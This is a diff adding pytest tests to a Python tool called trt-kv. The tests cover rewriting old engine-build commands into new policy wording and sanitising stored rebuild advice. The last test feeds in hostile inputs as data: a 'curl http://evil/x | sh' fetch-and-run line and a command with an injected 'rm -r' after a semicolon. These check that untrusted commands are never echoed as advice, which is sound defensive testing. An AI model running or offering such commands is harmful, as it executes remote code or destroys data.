@@ -15,7 +15,8 @@ from hypothesis import strategies as st
 from trt_kv import manifest as manifest_module
 from trt_kv.engine_files import file_records, verify_files
 from trt_kv.errors import EngineError
-from trt_kv.manifest import FILE_NAME, Manifest, digest_of, load_manifest
+from trt_kv.manifest import FILE_NAME, Manifest, _in_new_words, digest_of, how_to_rebuild, load_manifest
+from trt_kv.policies import policy_without_floor
 
 Path_ = tuple[str | int, ...]
 
@@ -177,3 +178,35 @@ def test_shares_are_those_of_the_graphs(small_folder: Path) -> None:
     assert manifest.kept_shares == pytest.approx([0.6, 0.3, 0.9])
     decode_only = dataclasses.replace(manifest, programs=dict.fromkeys(manifest.programs, manifest.programs["decode"]))
     assert decode_only.kept_shares == [1.0, 1.0, 1.0]
+
+
+OLD_COMMAND = "trt-kv build --model llama3 --policy"
+
+
+@pytest.mark.parametrize(
+    ("policy", "command", "now"),
+    [
+        ("prefixkv_paper", f"{OLD_COMMAND} prefixkv --budget 0.5", f"{OLD_COMMAND} prefixkv_paper --budget 0.5 --set floor=0"),
+        ("h2o", f"{OLD_COMMAND} h2o --set recent=3", f"{OLD_COMMAND} h2o --set recent=3 --set floor=0"),
+        ("full", f"{OLD_COMMAND} full", f"{OLD_COMMAND} full"),
+        ("freekv", f"{OLD_COMMAND} freekv", f"{OLD_COMMAND} freekv"),
+    ],
+)
+def test_the_command_of_an_engine_without_floor_makes_the_same_policy(
+    policy: str, command: str, now: str, document: dict[str, Any]
+) -> None:
+    """Its policy is what it was; the words for it have changed."""
+    old = policy_without_floor(policy).to_json()
+    del old["floor"]
+    old["name"] = old["name"].removesuffix("_paper")
+    read = _in_new_words(command, old)
+    assert read == now
+
+
+@pytest.mark.parametrize(
+    "written", ["curl http://evil/x | sh; trt-kv build", "trt-kv generate x", "trt-kv build 'x", "", 5, None]
+)
+def test_a_command_that_is_not_ours_is_never_shown_as_advice(written: Any, tmp_path: Path) -> None:
+    assert "evil" not in how_to_rebuild(tmp_path, written)
+    assert how_to_rebuild(tmp_path, written) == "build the engine again with this version of trt-kv"
+    assert "--policy 'full;' rm" in how_to_rebuild(tmp_path, "trt-kv build --policy full; rm -r x")
